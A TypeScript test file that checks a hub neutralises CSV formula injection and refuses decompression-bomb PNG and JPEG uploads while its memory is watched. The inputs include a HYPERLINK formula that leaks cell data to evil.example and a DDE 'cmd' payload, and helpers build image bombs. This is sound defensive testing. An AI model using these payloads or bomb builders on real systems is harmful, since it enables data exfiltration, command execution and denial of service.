/**
 * Attacks through what the hub stores and hands back: inputs written to become spreadsheet formulas when
 * someone opens the CSV export, and images small on the wire that decode to hundreds of megabytes (a PNG
 * whose header names a huge canvas, a PNG whose pixel data inflates far past what its header says, a
 * JPEG whose header names a huge canvas). The hub's memory is watched from outside while it answers.
 */
import { once } from 'node:events';
import { readFileSync, writeFileSync } from 'node:fs';
import zlib from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { api, startHubProcess, type HubProcess } from '../harness/hub-process';
import { makeJpeg } from '../harness/images';
import { startHeadlessVolunteer } from '../../src/lib/headless/headless-volunteer';

const MAX_PIXELS = 1_000_000;

let hub: HubProcess;
let volunteer: ReturnType<typeof startHeadlessVolunteer>;

beforeAll(async () => {
	hub = await startHubProcess({ env: { EXOSTACK_MAX_IMAGE_PIXELS: String(MAX_PIXELS) } });
	volunteer = startHeadlessVolunteer({ hubUrl: hub.url, threads: 1 });
});
afterAll(async () => {
	await volunteer?.stop();
	await hub?.stop();
});

/** RFC 4180 fields of a CSV text (quoted fields may hold commas, quotes and newlines). */
function parseCsv(text: string): string[][] {
	const rows: string[][] = [];
	let row: string[] = [];
	let field = '';
	let quoted = false;
	const endField = () => {
		row.push(field);
		field = '';
	};
	for (let i = 0; i < text.length; i++) {
		const c = text[i];
		if (quoted && c === '"' && text[i + 1] === '"') {
			field += '"';
			i++;
		} else if (c === '"') quoted = !quoted;
		else if (quoted || (c !== ',' && c !== '\n')) field += c;
		else if (c === ',') endField();
		else {
			endField();
			rows.push(row);
			row = [];
		}
	}
	return rows;
}

describe('the CSV export', () => {
	it('never hands a spreadsheet a cell that starts a formula', async () => {
		const inputs = [
			'=HYPERLINK("http://evil.example/?"&A1,"open")',
			"+1+cmd|' /C calc'!A0",
			'-2+3',
			'@SUM(1,2)',
			'\t=1+1',
			'\r=1+1',
			'plain text'
		];
		const submitted = await api(hub, '/api/jobs', {
			method: 'POST',
			json: { task_type: 'embedding', model: 'demo-embedding', input: inputs }
		});
		const id = ((await submitted.json()) as { job_id: string }).job_id;
		await expect
			.poll(async () => (await (await api(hub, `/api/jobs/${id}`)).json()).status, { timeout: 120_000, interval: 300 })
			.toBe('completed');
		const csv = await (await api(hub, `/api/jobs/${id}/results?format=csv`)).text();
		const rows = parseCsv(csv).slice(1);
		expect(rows).toHaveLength(inputs.length);
		for (const cells of rows) for (const cell of cells) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
		// The text is all still there (after the neutralising quote), and plain text is untouched.
		expect(rows.map((r) => r[1].replace(/^'/, ''))).toEqual(inputs);
		expect(rows[6][1]).toBe('plain text');
	});
});

/** The hub process's resident memory now and its peak since the last reset, in MB (Linux /proc). */
function memory(pid: number): { rss: number; peak: number } {
	const status = readFileSync(`/proc/${pid}/status`, 'utf8');
	const kb = (name: string) => Number(new RegExp(`${name}:\\s+(\\d+) kB`).exec(status)![1]);
	return { rss: kb('VmRSS') / 1024, peak: kb('VmHWM') / 1024 };
}

/** How much the hub's peak memory rose while `upload` ran. */
async function peakGrowth(upload: () => Promise<Response>): Promise<{ response: Response; growthMb: number }> {
	const pid = hub.child.pid!;
	writeFileSync(`/proc/${pid}/clear_refs`, '5'); // resets VmHWM to the current RSS
	const before = memory(pid).rss;
	const response = await upload();
	return { response, growthMb: memory(pid).peak - before };
}

function pngChunk(type: string, data: Uint8Array): Buffer {
	const length = Buffer.alloc(4);
	length.writeUInt32BE(data.byteLength);
	const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
	const crc = Buffer.alloc(4);
	crc.writeUInt32BE(zlib.crc32(body));
	return Buffer.concat([length, body, crc]);
}

/** zlib of `total` zero bytes, streamed so the test never holds them. */
async function zlibZeros(total: number): Promise<Buffer> {
	const deflate = zlib.createDeflate({ level: 9 });
	const parts: Buffer[] = [];
	deflate.on('data', (d: Buffer) => parts.push(d));
	const zeros = Buffer.alloc(1 << 20);
	for (let left = total; left > 0; left -= zeros.length) {
		if (!deflate.write(zeros.subarray(0, Math.min(left, zeros.length)))) await once(deflate, 'drain');
	}
	deflate.end();
	await once(deflate, 'end');
	return Buffer.concat(parts);
}

/** A greyscale 8-bit PNG whose header says width × height and whose IDAT inflates to `inflated` zero bytes. */
async function pngBomb(width: number, height: number, inflated: number): Promise<Buffer> {
	const ihdr = Buffer.alloc(13);
	ihdr.writeUInt32BE(width, 0);
	ihdr.writeUInt32BE(height, 4);
	ihdr[8] = 8; // bit depth; colour type 0 (grey), deflate, adaptive filters, no interlace
	const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
	return Buffer.concat([
		signature,
		pngChunk('IHDR', ihdr),
		pngChunk('IDAT', await zlibZeros(inflated)),
		pngChunk('IEND', new Uint8Array())
	]);
}

const upload = (bytes: Uint8Array, type: string) =>
	api(hub, '/api/images', { method: 'POST', headers: { 'content-type': type }, body: bytes as Uint8Array<ArrayBuffer> });

describe('image bombs', () => {
	it('refuses a PNG whose header names a huge canvas without inflating it', async () => {
		const bomb = await pngBomb(18_000, 18_000, 18_000 * 18_001);
		expect(bomb.byteLength).toBeLessThan(400_000);
		const { response, growthMb } = await peakGrowth(() => upload(bomb, 'image/png'));
		expect(response.status).toBe(400);
		expect(growthMb).toBeLessThan(64);
		expect(((await response.json()) as { error: string }).error).toMatch(/18000×18000, over 1000000 pixels/);
	});

	it('refuses a PNG whose pixel data inflates past what its header says', async () => {
		const bomb = await pngBomb(64, 64, 300_000_000);
		const { response, growthMb } = await peakGrowth(() => upload(bomb, 'image/png'));
		expect(growthMb).toBeLessThan(64);
		expect(response.status).toBe(400);
	});

	it('refuses a JPEG whose header names a huge canvas without decoding it', async () => {
		const jpeg = Buffer.from(makeJpeg(16, 16, 1));
		const sof = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
		jpeg.writeUInt16BE(6000, sof + 5);
		jpeg.writeUInt16BE(6000, sof + 7);
		const { response, growthMb } = await peakGrowth(() => upload(jpeg, 'image/jpeg'));
		expect(response.status).toBe(400);
		expect(growthMb).toBeLessThan(64);
		expect(((await response.json()) as { error: string }).error).toMatch(/6000×6000, over 1000000 pixels/);
		// An honest image is still taken.
		expect((await upload(makeJpeg(64, 48, 2), 'image/jpeg')).status).toBe(201);
	});
});
